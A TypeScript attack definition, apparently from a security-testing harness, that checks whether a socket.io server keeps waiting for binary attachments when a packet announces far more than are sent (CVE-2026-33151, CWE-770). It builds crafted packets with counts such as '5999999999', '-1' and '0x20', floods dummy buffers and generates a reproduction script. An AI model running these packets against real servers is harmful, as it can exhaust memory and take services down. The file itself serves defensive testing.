import { defineAttack } from '../../attack.ts'
import { resisted, vulnerable } from '../../judge.ts'
import { control, endedWithin, openWitness } from '../../kit/attempt.ts'
import { attackerSession } from '../../kit/event-steps.ts'
import { messages } from '../../sends.ts'

/** Well above the ten that socket.io-parser takes since 4.2.6 (CVE-2026-33151), and little to send. */
const sent = 60
const counts = ['11', '511', '5999999999', '1e3', '-1', '0x20', '']

export default defineAttack({
  id: 'crash/bin-attachment-count',
  rows: ['crash.bin.attachment-count'],
  title: 'Binary events that announce more attachments than anybody sends: are they waited for and kept?',
  requirement: 'CVE-2026-33151: the number of attachments of one packet has a bound',
  impact: 'Everything that a client sends from then on is kept in memory for a packet that never ends.',
  remedy: 'Keep socket.io-parser at 4.2.6 or later; it takes ten unless maxAttachments says otherwise.',
  severity: 'high',
  cwe: ['CWE-770'],
  references: ['CVE-2026-33151'],
  effect: 'disrupt',
  holds: 'account',
  provenBy: 'old-parser',
  sends: messages(2 * counts.length * sent),
  needs: ['textPackets'],
  async run(context) {
    const witness = await openWitness(context)
    const { chat } = context.target.profile
    /** Whether the server goes on waiting for attachments; an honest message behind them shows that it has read them. */
    const waits = async (count: string) => {
      const session = await attackerSession(context, { join: false })
      const packet = `5${count}-${JSON.stringify([chat.send.event, { _placeholder: true, num: 0 }])}`
      session.engine.send(packet)
      for (let i = 0; i < sent && session.isOpen; i += 1) session.engine.send(Buffer.alloc(16))
      await control(context, 'an honest message behind them', witness)
      await endedWithin(session, context.settleMs)
      const how = session.end?.how ?? `${sent} attachments were taken, and more are waited for`
      context.note('received', `${count === '' ? 'no number' : count} announced: ${how}`)
      const isOpen = session.end === undefined
      if (isOpen)
        context.recording.written(({ value, door }) => script(value(packet), door({ token: context.attacker.token })))
      await session.close()
      return isOpen
    }
    let kept = false
    for (const count of counts) kept ||= (await waits(count)) && (await waits(count))
    const last = await control(context, 'an honest client', witness)
    return kept ? vulnerable(context.evidence) : resisted(last.observation, context.evidence)
  },
})

/** Whoever comes in behind them shows that they have been read. */
function script(packet: string, door: string): string {
  return `const sender = await connect(${door}, true)
await packets(sender, ['4' + ${packet}, ...Array(${sent}).fill(Buffer.alloc(16))])
await connect(${door}, true)
await sleep(1_000)
expect(!sender.cut, 'the connection is ended')`
}
